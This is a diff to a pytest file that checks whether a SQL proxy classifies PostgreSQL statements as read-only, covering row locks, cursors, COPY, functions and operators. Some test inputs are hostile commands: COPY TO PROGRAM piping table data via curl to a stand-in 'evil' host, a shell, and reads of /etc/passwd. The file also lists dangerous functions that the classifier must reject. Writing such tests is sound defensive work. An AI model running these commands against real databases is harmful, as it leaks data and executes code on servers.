@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections import OrderedDict
+from pathlib import Path
 
 import pytest
 
@@ -79,6 +80,9 @@ def test_writes_that_hide_are_found(sql: str, hidden_kind: str) -> None:
     "EXECUTE prepared_elsewhere",
     "VACUUM t",
     "LOCK TABLE t",
+    "FETCH c",  # runs the query of a cursor declared earlier: DECLARE c CURSOR FOR SELECT writes()
+    "MOVE FORWARD 5 IN c",
+    "SET CONSTRAINTS ALL IMMEDIATE",  # fires deferred constraint triggers
 ])
 def test_not_read_only_without_a_write_statement(sql: str) -> None:
     assert not classify(sql).is_read_only
@@ -143,3 +147,88 @@ def test_fresh_literals_reuse_the_shape_but_never_across_tables_or_tricky_quotin
     assert not classify("SELECT 'x' FROM items; -- '\nDROP TABLE items").is_read_only
     assert not classify("SELECT E'\\'' FROM items; DELETE FROM items; SELECT ''").is_read_only
     assert classify("SELECT 'it''s' AS a").kinds == ("SELECT",)
+
+
+@pytest.mark.parametrize("sql", [
+    "WITH locked AS (SELECT * FROM t FOR UPDATE) SELECT * FROM locked",
+    "SELECT * FROM (SELECT * FROM t FOR SHARE) s",
+    "SELECT * FROM t WHERE id IN (SELECT id FROM u FOR NO KEY UPDATE)",
+    "SELECT (SELECT a FROM u LIMIT 1 FOR KEY SHARE) FROM t",
+    "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
+    "SELECT 1 UNION ALL (SELECT 1 FROM t FOR UPDATE)",
+])
+def test_row_locks_anywhere_in_the_tree_are_not_read_only(sql: str) -> None:
+    assert not classify(sql).is_read_only
+
+
+@pytest.mark.parametrize("sql, kind", [
+    ("COPY t TO PROGRAM 'curl -d @- http://evil'", "COPY TO PROGRAM"),
+    ("COPY (SELECT * FROM t) TO PROGRAM 'sh'", "COPY TO PROGRAM"),
+    ("COPY t TO '/tmp/dump'", "COPY TO FILE"),
+    ("COPY t FROM PROGRAM 'id'", "COPY FROM PROGRAM"),
+    ("COPY t FROM '/etc/passwd'", "COPY FROM FILE"),
+])
+def test_copy_to_or_from_the_server_side_is_not_read_only(sql: str, kind: str) -> None:
+    c = classify(sql)
+    assert kind in c.kinds and not c.is_read_only
+
+
+@pytest.mark.parametrize("sql", [
+    "SELECT set_config('default_transaction_read_only', 'off', false)",
+    "SELECT pg_notify('ch', 'payload')",
+    "SELECT pg_advisory_lock(1)",
+    "SELECT pg_try_advisory_xact_lock(1)",
+    "SELECT lo_create(0)",
+    "SELECT lo_import('/etc/passwd')",
+    "SELECT txid_current()",
+    "SELECT pg_current_xact_id()",
+    "SELECT pg_catalog.nextval('s')",
+    "SELECT writes_rows()",  # a user function: we cannot see what it does
+    "SELECT public.lower('X')",  # a built-in name outside pg_catalog
+    'SELECT "LOWER"(\'X\')',  # quoted: another function than lower
+    "SELECT a.b.c()",
+    "SELECT * FROM my_srf()",
+    "SELECT * FROM t WHERE a = my_check(a)",
+    "SELECT * FROM t ORDER BY my_rank(a)",
+    "WITH x AS (SELECT my_func()) SELECT * FROM x",
+    "SELECT count(*) FILTER (WHERE my_pred(a)) FROM t",
+])
+def test_a_statement_calling_anything_but_a_read_only_builtin_is_not_read_only(sql: str) -> None:
+    assert not classify(sql).is_read_only
+
+
+@pytest.mark.parametrize("sql", [
+    "SELECT lower(name), pg_catalog.upper(name), count(*), now(), random() FROM t GROUP BY 1, 2",
+    "SELECT * FROM generate_series(1, 10) g",
+    "SELECT extract(year FROM now()), coalesce(a, 0), current_setting('search_path') FROM t",
+    "SELECT row_number() OVER (ORDER BY a), currval('s') FROM t",
+    "SELECT trim(both ' ' from v), substring(v from 2) FROM t",
+])
+def test_read_only_builtins_keep_a_select_read_only(sql: str) -> None:
+    assert classify(sql).is_read_only
+
+
+def test_the_builtin_list_ships_with_the_package_and_holds_no_writer() -> None:
+    from importlib import resources
+
+    shipped = resources.files("proxy.policy").joinpath("builtin_functions.txt")
+    assert shipped.is_file()
+    names = classify_module.READ_ONLY_BUILTINS
+    assert {"lower", "count", "now", "generate_series", "jsonb_build_object", "currval"} <= names
+    assert not names & {"nextval", "setval", "set_config", "pg_notify", "pg_advisory_lock", "lo_create",
+                        "lo_import", "txid_current", "pg_terminate_backend", "query_to_xml", "pg_read_file"}
+    pyproject = (Path(__file__).resolve().parents[2] / "pyproject.toml").read_text()
+    assert '"proxy.policy" = ["builtin_functions.txt", "builtin_operators.txt"]' in pyproject
+    assert {"=", "<>", "+", "~~", "->>", "@>", "||"} <= classify_module.READ_ONLY_OPERATORS
+
+
+@pytest.mark.parametrize("sql, read_only", [
+    ("SELECT a + b, a || 'x', j ->> 'k', a = ANY(b), a IS DISTINCT FROM b FROM t WHERE a LIKE 'x%'", True),
+    ("SELECT * FROM t WHERE a BETWEEN 1 AND 2 AND b NOT BETWEEN SYMMETRIC 3 AND 4 AND c IN (1, 2)", True),
+    ("SELECT a OPERATOR(pg_catalog.+) b FROM t", True),
+    ("SELECT a === b FROM t", False),  # a user-defined operator runs a user function
+    ("SELECT * FROM t WHERE a <=> b", False),
+    ("SELECT a OPERATOR(public.+) b FROM t", False),
+])
+def test_operators_outside_the_builtin_list_are_not_read_only(sql: str, read_only: bool) -> None:
+    assert classify(sql).is_read_only is read_only
